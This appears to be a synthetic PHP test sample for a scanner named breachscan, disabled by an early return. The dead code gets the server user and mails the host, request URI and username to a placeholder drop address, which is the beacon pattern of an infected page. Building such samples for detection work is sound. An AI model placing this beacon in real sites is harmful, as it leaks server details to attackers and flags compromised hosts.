<?php
// synthetic test sample for breachscan: reports the infected page's URL by mail to a fixed
// address. Address is .invalid; disabled.
return;
set_time_limit(0);
$user = get_current_user();
mail('drop@example.invalid', 'new', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'] . ' ' . $user);
